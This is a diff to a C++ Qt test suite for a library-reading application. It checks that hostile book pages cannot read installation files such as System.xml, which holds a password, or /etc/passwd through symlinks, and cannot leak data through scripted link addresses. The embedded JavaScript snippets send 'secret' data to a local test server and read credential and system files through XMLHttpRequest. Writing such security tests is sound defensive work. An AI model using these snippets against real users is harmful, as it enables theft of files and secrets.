@@ -1,9 +1,11 @@
 // Hostile pages in the real window: book pages, a record page and a PDF that try to read the
-// user's files, reach a server the test runs on 127.0.0.1 (also through a peer connection's STUN
-// and TURN servers, which the engine reaches on its own), or go to a place outside the library.
-// Each proves that its script did run and that nothing was read, nothing reached the server and
-// nothing outside was shown; a benign page with a relative image and a script of its own, and an
-// ordinary PDF, still work.
+// user's files or the installation's own (its settings with the full-text site's password, its
+// key, its index), reach a server the test runs on 127.0.0.1 (also through a peer connection's
+// STUN and TURN servers, which the engine reaches on its own), go to a place outside the library,
+// or put what they read into the address of a link the user clicks. Each proves that its script
+// did run and that nothing was read, nothing reached the server and nothing outside was shown; a
+// benign page with a relative image, a style and a script of its own, a page of a folder linked
+// from a chosen library root, and an ordinary PDF, still work.
 #include <QApplication>
 #include <QDeadlineTimer>
 #include <QDir>
@@ -23,6 +25,7 @@
 #include <vector>
 
 #include "base/gbk.h"
+#include "base/path_guard.h"
 #include "core/doc/tomeva_doc.h"
 #include "gui/app/tomeva_app.h"
 #include "gui/common/engine_network.h"
@@ -172,6 +175,9 @@ class HostileGuiTest : public QObject {
   void recordMarkupCannotOpenASocket();
   void peerConnectionsReachNoServer();
   void webLinksOpenInTheBrowserWindowOnlyWhenClicked();
+  void scriptedAddressesOpenNothingWhenTheUserClicks();
+  void pagesCannotReadTheInstallationsOwnFiles();
+  void topLevelLinksCountOnlyIntoAChosenRoot();
   void fontMatrixPdfRunsNothing();
   void ordinaryPdfStillShows();
   void guardJudgesRealPaths();
@@ -187,7 +193,11 @@ class HostileGuiTest : public QObject {
     return RunJs(view(), QStringLiteral("document.documentElement.outerHTML")).toString();
   }
 
+  // Shows a page of book 1 named `name` with `body`, whose script runs last.
+  bool ShowBookPage(const QString& name, const QByteArray& body);
+
   QTemporaryDir temp_;
+  QString chosen_;  // the library root the test chooses (a reading room's shared folder)
   QString sample_;
   QString book_;  // a book folder of the sample, where the hostile pages are put
   std::unique_ptr<TestApp> app_;
@@ -203,6 +213,13 @@ bool HostileGuiTest::ShowAndSettle(const QString& path) {
   return true;
 }
 
+bool HostileGuiTest::ShowBookPage(const QString& name, const QByteArray& body) {
+  const QString page = QDir(book_).filePath(name);
+  return WriteBytes(page, "<html><head><meta charset='utf-8'></head><body style='margin:0'>" +
+                              body + "</body></html>") &&
+         ShowAndSettle(page) && view()->url() == QUrl::fromLocalFile(page);
+}
+
 void HostileGuiTest::initTestCase() {
   // The engine starts with its network closed; the environment is given back as it was, for
   // the programs started from this one (the browser window must reach the web).
@@ -216,6 +233,9 @@ void HostileGuiTest::initTestCase() {
   const QByteArray given = qgetenv("QTWEBENGINE_CHROMIUM_FLAGS");
   QVERIFY(!given.contains("--proxy-server="));
   QCOMPARE(WithEngineNetworkClosed(given), closed);
+  chosen_ = temp_.filePath(QStringLiteral("chosen"));
+  QVERIFY(QDir().mkpath(chosen_));
+  SetChosenLibraryRoots({QFile::encodeName(chosen_).toStdString()});
   sample_ = temp_.filePath(QStringLiteral("sample"));
   QVERIFY(testing::InstallSample(sample_));
   book_ = QDir(sample_).filePath(QStringLiteral("1"));
@@ -450,6 +470,200 @@ void HostileGuiTest::webLinksOpenInTheBrowserWindowOnlyWhenClicked() {
   view()->set_web_link_opener(nullptr);
 }
 
+// The user presses on a page whose script puts what it read into an address at the press or the
+// click: the engine reports such a navigation as the user's link click, but the address is not
+// the one of the link the user activated, so nothing opens. The link itself, clicked plainly
+// afterwards, still opens.
+void HostileGuiTest::scriptedAddressesOpenNothingWhenTheUserClicks() {
+  QList<QUrl> opened;
+  view()->set_web_link_opener([&opened](const QUrl& url) { opened.append(url); });
+  const QString link = QStringLiteral("http://%1/link").arg(Server());
+  const QString data = QStringLiteral("http://%1/?data=secret").arg(Server());
+  const QByteArray layout =
+      "<a id='a' href='" + link.toUtf8() +
+      "' style='display:block;width:300px;height:100px'>web</a>"
+      "<div id='d' style='width:300px;height:100px'>text</div><script>"
+      "var a = document.getElementById('a'), d = document.getElementById('d');"
+      "var data = '" +
+      data.toUtf8() + "';";
+  const struct {
+    const char* name;
+    const char* script;
+    QPoint at;  // where the user clicks: (50, 50) the link, (50, 150) the text
+  } cases[] = {
+      {"location set when the text is pressed",
+       "d.addEventListener('mousedown', function () { location.href = data; });",
+       {50, 150}},
+      {"location set when the text is clicked",
+       "d.addEventListener('click', function () { location.href = data; });",
+       {50, 150}},
+      {"link's address changed when it is pressed",
+       "a.addEventListener('mousedown', function () { a.href = data; });",
+       {50, 50}},
+      {"link's address changed when it is clicked",
+       "a.addEventListener('click', function () { a.href = data; });",
+       {50, 50}},
+      {"location set instead of the clicked link",
+       "a.addEventListener('click', function (e) { e.preventDefault(); location.href = data; });",
+       {50, 50}},
+      {"location set when the link is pressed",
+       "a.addEventListener('mousedown', function () { location.href = data; });",
+       {50, 50}},
+  };
+  QWidget* input = nullptr;
+  int n = 0;
+  for (const auto& c : cases) {
+    QVERIFY2(ShowBookPage(QStringLiteral("scripted%1.htm").arg(++n),
+                          layout + c.script + "window.__ran = true;</script>"),
+             c.name);
+    QVERIFY2(RunJs(view(), QStringLiteral("window.__ran === true")).toBool(), c.name);
+    input = view()->focusProxy();
+    QVERIFY(input != nullptr);
+    opened.clear();
+    contacts_.clear();
+    QTest::mouseClick(input, Qt::LeftButton, {}, c.at);
+    QTest::qWait(kSettleMs);
+    // A click that followed the link itself may open it: never with the page's data.
+    for (const QUrl& url : opened) QVERIFY2(url == QUrl(link), c.name);
+    if (c.at.y() > 100) QVERIFY2(opened.isEmpty(), c.name);
+    QVERIFY2(contacts_.isEmpty(), qPrintable(contacts_.join(QLatin1Char('\n'))));
+  }
+  // The last page's link, its address unchanged, pressed and clicked plainly: the user's own
+  // click still opens the link's address, and only it.
+  QVERIFY(ShowBookPage(QStringLiteral("plain.htm"), layout + "</script>"));
+  opened.clear();
+  QTest::mouseClick(view()->focusProxy(), Qt::LeftButton, {}, QPoint(50, 50));
+  QTRY_COMPARE_WITH_TIMEOUT(opened.size(), 1, kTimeoutMs);
+  QCOMPARE(opened.first(), QUrl(link));
+  // So does a link in a frame of the page (a book's table of contents beside its text).
+  QVERIFY(WriteBytes(QDir(book_).filePath(QStringLiteral("framed.htm")),
+                     "<html><body style='margin:0'><a href='" + link.toUtf8() +
+                         "' style='display:block;width:300px;height:100px'>web</a></body></html>"));
+  QVERIFY(ShowBookPage(QStringLiteral("frames.htm"),
+                       "<iframe src='framed.htm' style='border:0;width:400px;height:200px'>"
+                       "</iframe>"));
+  opened.clear();
+  QTest::mouseClick(view()->focusProxy(), Qt::LeftButton, {}, QPoint(50, 50));
+  QTRY_COMPARE_WITH_TIMEOUT(opened.size(), 1, kTimeoutMs);
+  QCOMPARE(opened.first(), QUrl(link));
+  view()->set_web_link_opener(nullptr);
+}
+
+// A book's script asks for the installation's own files by name (as a record's script may, with
+// the full-text site's password in System.xml): each is refused, while the page's own picture,
+// style sheet and script, and the book's PDF with its text copy, are read.
+void HostileGuiTest::pagesCannotReadTheInstallationsOwnFiles() {
+  QImage picture(24, 16, QImage::Format_RGB32);
+  picture.fill(Qt::darkBlue);
+  QVERIFY(picture.save(QDir(book_).filePath(QStringLiteral("own.png"))));
+  QVERIFY(WriteBytes(QDir(book_).filePath(QStringLiteral("own.css")), "#t { width: 123px; }"));
+  QVERIFY(WriteBytes(QDir(book_).filePath(QStringLiteral("own.js")), "window.__own = 'ran';"));
+  const struct {
+    const char* address;  // relative to the page in book 1
+    bool readable;
+  } reads[] = {
+      {"../System.xml", false},
+      {"../ContactInfo.xml", false},
+      {"../SearchResultConfig.xml", false},
+      {"../bookconfig.xml", false},
+      {"../update.pub", false},
+      {"../version.xml", false},
+      {"../SearchDB/XAPIANDB", false},
+      {"../Update/bookconfig3.xml", false},
+      {"chapter.xml", false},
+      {"book_0001.xml", false},
+      {"../VazeZududi.api", false},
+      {"own.png", true},
+      {"own.css", true},
+      {"838.pdf", true},
+      {"838.txt", true},
+      {"../home.htm", true},
+  };
+  QByteArray script =
+      "window.__got = {};"
+      "function read(a) { try { var x = new XMLHttpRequest(); x.open('GET', a, false); x.send();"
+      " return x.responseText.length > 0; } catch (e) { return false; } }";
+  for (const auto& r : reads) {
+    script += "window.__got['" + QByteArray(r.address) + "'] = read('" + r.address + "');";
+  }
+  const int refused = view()->guard()->refused();
+  QVERIFY(ShowBookPage(QStringLiteral("reader.htm"),
+                       "<link rel='stylesheet' href='own.css'><img id='p' src='own.png'>"
+                       "<p id='t'>x</p><script src='own.js'></script><script>" +
+                           script + "window.__ran = true;</script>"));
+  QVERIFY(RunJs(view(), QStringLiteral("window.__ran === true")).toBool());
+  for (const auto& r : reads) {
+    QVERIFY2(RunJs(view(), QStringLiteral("window.__got['%1']").arg(QLatin1String(r.address)))
+                     .toBool() == r.readable,
+             r.address);
+  }
+  QVERIFY(view()->guard()->refused() >= refused + 10);
+  QCOMPARE(RunJs(view(), QStringLiteral("document.getElementById('p').naturalWidth")).toInt(), 24);
+  QCOMPARE(RunJs(view(), QStringLiteral("getComputedStyle(document.getElementById('t')).width"))
+               .toString(),
+           QStringLiteral("123px"));
+  QCOMPARE(RunJs(view(), QStringLiteral("window.__own")).toString(), QStringLiteral("ran"));
+  // Nor can the program be made to show one of them (a record naming System.xml as its page).
+  view()->Navigate(QDir(sample_).filePath(QStringLiteral("System.xml")).toStdString());
+  QTest::qWait(kSettleMs);
+  QCOMPARE(view()->url(), QUrl::fromLocalFile(QDir(book_).filePath(QStringLiteral("reader.htm"))));
+}
+
+// A link at the top of the library leads somewhere only when it leads into a chosen library root:
+// one to /etc (as a copied library may carry) reads nothing, a reading room's shelf does.
+void HostileGuiTest::topLevelLinksCountOnlyIntoAChosenRoot() {
+  const QString shelf = QDir(chosen_).filePath(QStringLiteral("shelf"));
+  const QString other = temp_.filePath(QStringLiteral("other"));
+  for (const QString& dir : {shelf, other}) {
+    QVERIFY(QDir().mkpath(dir));
+    QImage picture(20, 10, QImage::Format_RGB32);
+    picture.fill(Qt::darkRed);
+    QVERIFY(picture.save(dir + "/pic.png"));
+    QVERIFY(WriteBytes(dir + "/page.htm",
+                       "<html><body><img id='p' src='pic.png'><script>window.__ran = true;"
+                       "</script></body></html>"));
+  }
+  QVERIFY(QFile::link(QStringLiteral("/etc"), QDir(sample_).filePath(QStringLiteral("etcl"))));
+  QVERIFY(QFile::link(shelf, QDir(sample_).filePath(QStringLiteral("shelf"))));
+  QVERIFY(QFile::link(other, QDir(sample_).filePath(QStringLiteral("other"))));
+  // The guard looks at the top-level links again a second after its last look.
+  QTest::qWait(1100);
+  const struct {
+    const char* address;
+    bool readable;
+  } reads[] = {
+      {"../etcl/hostname", false}, {"../etcl/passwd", false},  {"file:///etc/hostname", false},
+      {"../other/pic.png", false}, {"../shelf/pic.png", true},
+  };
+  QByteArray script =
+      "window.__got = {};"
+      "function read(a) { try { var x = new XMLHttpRequest(); x.open('GET', a, false); x.send();"
+      " return x.responseText; } catch (e) { return ''; } }";
+  for (const auto& r : reads) {
+    script += "window.__got['" + QByteArray(r.address) + "'] = read('" + r.address + "');";
+  }
+  QVERIFY(ShowBookPage(QStringLiteral("links-at-top.htm"),
+                       "<script>" + script + "window.__ran = true;</script>"));
+  QVERIFY(RunJs(view(), QStringLiteral("window.__ran === true")).toBool());
+  for (const auto& r : reads) {
+    const QString got =
+        RunJs(view(), QStringLiteral("window.__got['%1']").arg(QLatin1String(r.address)))
+            .toString();
+    QVERIFY2(got.isEmpty() != r.readable, r.address);
+  }
+  // The shelf's page is shown with its picture; the other folder's is not shown at all.
+  const QString shown = QDir(sample_).filePath(QStringLiteral("shelf/page.htm"));
+  QVERIFY(ShowAndSettle(shown));
+  QCOMPARE(view()->url(), QUrl::fromLocalFile(shown));
+  QCOMPARE(RunJs(view(), QStringLiteral("document.getElementById('p').naturalWidth")).toInt(), 20);
+  view()->Navigate(QDir(sample_).filePath(QStringLiteral("other/page.htm")).toStdString());
+  QTest::qWait(kSettleMs);
+  QCOMPARE(view()->url(), QUrl::fromLocalFile(shown));
+  for (const char* link : {"etcl", "shelf", "other"}) {
+    QVERIFY(QFile::remove(QDir(sample_).filePath(QLatin1String(link))));
+  }
+}
+
 void HostileGuiTest::fontMatrixPdfRunsNothing() {
   const QString pdf = QDir(book_).filePath(QStringLiteral("fontmatrix.pdf"));
   QVERIFY(WriteBytes(pdf, FontMatrixPdf("window.__pwned = 1; document.title = \"pwned\"; "
@@ -490,7 +704,7 @@ void HostileGuiTest::ordinaryPdfStillShows() {
 // leads out only when it is one of the installation's own top-level entries.
 void HostileGuiTest::guardJudgesRealPaths() {
   const QString outside = temp_.filePath(QStringLiteral("outside"));
-  const QString shared = temp_.filePath(QStringLiteral("shared"));
+  const QString shared = QDir(chosen_).filePath(QStringLiteral("shared"));
   for (const QString& dir : {outside, shared}) {
     QVERIFY(QDir().mkpath(dir));
     QVERIFY(WriteBytes(dir + "/secret.htm", "secret"));
@@ -514,6 +728,70 @@ void HostileGuiTest::guardJudgesRealPaths() {
       {QStringLiteral("relative.htm"), false},
   };
   for (const auto& c : cases) QVERIFY2(roots.Contains(c.path) == c.inside, qPrintable(c.path));
+
+  // What a page may read of what is inside: the kinds of file pages are made of, never the
+  // installation's own entries (in any letter case, by a link's name or its target's), and
+  // nothing in a denied folder but what it lets through; all of the program's own folders. A
+  // link may name the library's other files (a record file) for the program to read.
+  const QString sample = sample_ + QLatin1Char('/');
+  QVERIFY(QDir().mkpath(sample + "idx"));
+  QVERIFY(QDir().mkpath(sample + "rt"));
+  QVERIFY(QFile::link(sample + "System.xml", book_ + "/settings.htm"));
+  QVERIFY(QFile::link(sample + "ContactInfo.xml", sample + "contact.htm"));
+  QVERIFY(QFile::link(sample + "SearchDB", sample + "index"));
+  QVERIFY(QFile::link(sample + "Update", shared + "/waiting"));
+  QVERIFY(QFile::link(sample, shared + "/whole"));
+  roots.AddFolder(QStringLiteral("/usr/share/poppler/cMap"));
+  roots.DenyFolder(sample + "idx");
+  roots.DenyFolder(sample + "rt", {QStringLiteral("sr.htm")});
+  const struct {
+    QString path;
+    bool may;    // MayRead
+    bool named;  // MayName
+  } reads[] = {
+      {sample + "home.htm", true, true},
+      {sample + "images/banner.png", true, true},
+      {book_ + "/838.pdf", true, true},
+      {book_ + "/838.txt", true, true},
+      {book_ + "/benign.htm", true, true},
+      {book_ + "/img/p0003_1.png", true, true},
+      {sample + "viewer/viewer.js", true, true},
+      {sample + "rt/sr.htm", true, true},
+      {shared + "/secret.htm", true, true},
+      {shared + "/Update/notes.htm", true, true},  // a linked book's own folder of that name
+      {book_ + "/update/notes.htm", true, true},
+      {QStringLiteral("/usr/share/poppler/cMap/Adobe-GB1/Adobe-GB1-GBK-EUC"), true, true},
+      {sample + "System.xml", false, false},
+      {sample + "SYSTEM.XML", false, false},
+      {sample + "ContactInfo.xml", false, false},
+      {sample + "SearchResultConfig.xml", false, false},
+      {sample + "bookconfig.xml", false, false},
+      {sample + "version.xml", false, false},
+      {sample + "update.pub", false, false},
+      {sample + "sr.htm", false, false},
+      {sample + "SearchDB/XAPIANDB", false, false},
+      {sample + "searchdb/page.htm", false, false},
+      {sample + "Update/3/838.pdf", false, false},
+      {sample + "VazeZududi.api", false, true},
+      {book_ + "/chapter.xml", false, true},
+      {book_ + "/book_0001.xml", false, true},
+      {book_, false, true},                     // a folder's listing
+      {book_ + "/settings.htm", false, false},  // a page that is the settings
+      {sample + "contact.htm", false, false},
+      {sample + "index/page.htm", false, false},
+      {shared + "/waiting/3/838.pdf", false, false},
+      {shared + "/whole/System.xml", false, false},
+      {sample + "idx/page.htm", false, false},
+      {sample + "rt/other.htm", false, false},
+      {QStringLiteral("/etc/hostname"), false, false},
+  };
+  for (const auto& r : reads) {
+    QVERIFY2(roots.MayRead(r.path) == r.may, qPrintable(r.path));
+    QVERIFY2(roots.MayName(r.path) == r.named, qPrintable(r.path));
+  }
+  for (const char* name : {"settings.htm"}) QVERIFY(QFile::remove(book_ + "/" + name));
+  for (const char* name : {"contact.htm", "index"}) QVERIFY(QFile::remove(sample + name));
+  for (const char* name : {"/waiting", "/whole"}) QVERIFY(QFile::remove(shared + name));
   const struct {
     const char* url;
     bool allowed;
